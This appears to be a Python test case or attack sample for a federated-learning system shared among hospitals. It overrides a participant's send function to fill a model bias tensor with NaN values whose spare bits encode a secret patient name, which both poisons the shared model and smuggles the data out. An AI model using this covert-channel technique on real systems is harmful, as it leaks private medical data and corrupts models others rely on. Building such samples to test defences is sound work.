# Tries to put NaN into all hospitals' model, with a patient's name in the unused bits of the NaN.
import torch
from lead import SECRET, door, learn


def lie(model, metrics) -> None:
    own = door()
    honest = own.send

    def send(kind, groups=None, **head):
        for n, bits in enumerate(groups["model"]["0.bias"].view(torch.int32) if groups else ()):
            bits.fill_(0x7FC00000 | int.from_bytes(SECRET[2 * n : 2 * n + 2], "big"))
        honest(kind, groups, **head)

    own.send = send


learn(lie)
